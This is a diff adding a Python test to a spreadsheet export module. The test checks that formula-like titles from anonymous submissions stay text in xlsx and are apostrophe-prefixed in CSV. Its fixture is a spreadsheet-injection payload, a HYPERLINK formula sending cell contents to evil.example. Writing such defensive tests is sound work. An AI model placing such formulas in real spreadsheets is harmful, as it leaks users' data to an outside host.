@@ -139,3 +139,17 @@ def test_incident_list_xlsx_has_local_datetimes(roster: Roster) -> None:
     assert row[8].number_format == "yyyy-mm-dd hh:mm"
     assert row[10].value is None and row[11].value == "是"
     assert [c.value for c in ws[4]][:2] == ["合计", "1件"]
+
+
+def test_text_that_looks_like_a_formula_stays_text() -> None:
+    """A title from an anonymous submission never becomes a formula (spreadsheet injection):
+    in Excel a text cell, in CSV prefixed with an apostrophe (OWASP's advice)."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    table = sheets.Table(
+        title="清溪镇舆情事件列表", headers=["标题", "件数"], rows=[[evil, 1], ["+1", -2]]
+    )
+    ws = _open(sheets.xlsx_bytes(table))
+    assert ws["A3"].value == evil and ws["A3"].data_type == "s"
+    assert ws["A4"].value == "+1" and ws["B4"].value == -2
+    rows = list(csv.reader(io.StringIO(sheets.csv_bytes(table).decode("utf-8-sig"))))
+    assert rows[1] == ["'" + evil, "1"] and rows[2] == ["'+1", "-2"]
